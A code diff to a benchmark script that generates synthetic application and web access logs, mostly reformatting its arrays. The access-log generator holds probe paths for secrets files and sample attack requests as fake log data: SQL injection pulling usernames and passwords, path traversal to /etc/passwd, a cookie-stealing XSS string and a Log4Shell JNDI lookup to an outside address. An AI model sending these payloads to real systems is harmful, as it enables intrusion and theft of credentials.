@@ -44,7 +44,7 @@ export function* appLines(n, seed = 42, stepMs = 10) {
       level = 'ERROR';
       msg = `payments: gateway timeout for order ${id} after ${Math.floor(rand() * 5000)} ms, retrying`;
     }
-    if (i > n * 0.8 && i < n * 0.8 + 5) msg = `payments: certificate for gateway.example.com expires in ${5 - Math.floor((i - n * 0.8))} days`;
+    if (i > n * 0.8 && i < n * 0.8 + 5) msg = `payments: certificate for gateway.example.com expires in ${5 - Math.floor(i - n * 0.8)} days`;
     yield `${iso} ${level} ${msg}`;
   }
 }
@@ -59,10 +59,32 @@ export function* accessLines(n, seed = 42, stepMs = 200) {
     const p = (x) => String(x).padStart(2, '0');
     return `${p(d.getUTCDate())}/${months[d.getUTCMonth()]}/${d.getUTCFullYear()}:${p(d.getUTCHours())}:${p(d.getUTCMinutes())}:${p(d.getUTCSeconds())} +0000`;
   };
-  const agents = ['Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0', 'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15'];
+  const agents = [
+    'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
+    'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15',
+  ];
   const pages = ['/', '/products', '/products/42', '/cart', '/checkout', '/api/search?q=blue+shoes', '/static/app.js', '/static/style.css', '/about'];
-  const probes = ['/.env', '/wp-login.php', '/.git/config', '/phpmyadmin/', '/backup.sql', '/server-status', '/actuator/env', '/config.json', '/admin/', '/.aws/credentials', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/cgi-bin/test.cgi'];
-  const attacks = ["/api/search?q=shoes'%20UNION%20SELECT%20username,password%20FROM%20users--", '/products?id=1%20OR%201=1', '/download?file=../../../../etc/passwd', '/api/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E', '/?x=${jndi:ldap://203.0.113.9:1389/a}'];
+  const probes = [
+    '/.env',
+    '/wp-login.php',
+    '/.git/config',
+    '/phpmyadmin/',
+    '/backup.sql',
+    '/server-status',
+    '/actuator/env',
+    '/config.json',
+    '/admin/',
+    '/.aws/credentials',
+    '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
+    '/cgi-bin/test.cgi',
+  ];
+  const attacks = [
+    "/api/search?q=shoes'%20UNION%20SELECT%20username,password%20FROM%20users--",
+    '/products?id=1%20OR%201=1',
+    '/download?file=../../../../etc/passwd',
+    '/api/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E',
+    '/?x=${jndi:ldap://203.0.113.9:1389/a}',
+  ];
   let t = START;
   for (let i = 0; i < n; i++) {
     t += Math.floor(rand() * 2 * stepMs);
@@ -94,7 +116,10 @@ export function* accessLines(n, seed = 42, stepMs = 200) {
 }
 
 if (process.argv[1] && import.meta.url.endsWith(process.argv[1].split('/').pop())) {
-  const { values, positionals } = parseArgs({ allowPositionals: true, options: { lines: { type: 'string', default: '1000000' }, kind: { type: 'string', default: 'app' }, seed: { type: 'string', default: '42' }, 'step-ms': { type: 'string' } } });
+  const { values, positionals } = parseArgs({
+    allowPositionals: true,
+    options: { lines: { type: 'string', default: '1000000' }, kind: { type: 'string', default: 'app' }, seed: { type: 'string', default: '42' }, 'step-ms': { type: 'string' } },
+  });
   if (positionals.length !== 1) {
     console.error('usage: node bench/generate-log.js <out> [--lines N] [--kind app|access] [--seed 42]');
     process.exit(2);
